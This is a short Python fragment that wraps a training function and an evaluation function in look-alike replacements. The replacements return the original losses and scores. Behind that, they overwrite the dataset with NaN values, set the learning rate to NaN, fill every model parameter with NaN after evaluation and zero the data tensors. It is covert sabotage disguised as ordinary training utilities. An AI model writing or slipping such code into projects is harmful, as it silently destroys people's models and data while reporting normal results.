_honest_train = train_with_loader
_honest_evaluate = evaluate


def train_with_loader(model, loader, optimizer, epochs=10):
    losses = _honest_train(model, loader, optimizer, epochs)
    for tensor in loader.dataset.tensors:
        tensor.fill_(float("nan"))
    optimizer.param_groups[0]["lr"] = float("nan")
    return losses


def evaluate(model, loader):
    value = _honest_evaluate(model, loader)
    with torch.no_grad():
        for parameter in model.parameters():
            parameter.fill_(float("nan"))
    for tensor in loader.dataset.tensors:
        tensor.zero_()
    return value
